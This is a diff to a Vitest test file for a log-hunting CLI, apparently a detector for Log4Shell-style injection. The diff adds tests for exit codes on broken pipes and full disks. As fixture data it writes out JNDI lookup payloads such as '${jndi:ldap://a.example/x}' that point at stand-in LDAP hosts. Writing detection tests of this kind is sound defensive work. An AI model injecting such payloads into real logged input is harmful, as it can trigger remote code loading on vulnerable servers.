@@ -1,7 +1,7 @@
 import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
 import { tmpdir } from 'node:os'
 import { join } from 'node:path'
-import { afterAll, expect, test } from 'vitest'
+import { afterAll, describe, expect, test } from 'vitest'
 import { fireline } from '../kit/fireline.ts'
 
 const folder = mkdtempSync(join(tmpdir(), 'fireline-cli-'))
@@ -97,4 +97,26 @@ test('explain --jsonl gives one answer a line, in order, whatever the line is', 
     ['${jndi:ldap://h/a}', ['ldap://h/a'], null],
     [null, [], 'not-a-json-string'],
   ])
+})
+
+describe.skipIf(process.platform === 'win32')('results that nobody gets do not end as if all was told', () => {
+  const attacks = join(folder, 'attacks.log')
+  writeFileSync(attacks, '${jndi:ldap://a.example/x}\n'.repeat(500))
+
+  test.each([
+    [
+      'a reader that goes away ends the command with 141, as SIGPIPE would',
+      '"$0" "$@" | true; exit ${PIPESTATUS[0]}',
+      141,
+    ],
+    ['a full disk is a problem', '"$0" "$@" >/dev/full', 3],
+    ['progress that nobody reads changes nothing', '"$0" "$@" 2>&1 >/dev/null | true; exit ${PIPESTATUS[0]}', 1],
+  ])('%s', async (_case, shell, code) => {
+    for (const format of ['text', 'jsonl']) {
+      const ended = await fireline(['hunt', '--format', format, attacks], { through: ['bash', '-c', shell] })
+
+      expect(ended.code).toBe(code)
+      expect(ended.stderr).not.toContain('defect')
+    }
+  })
 })
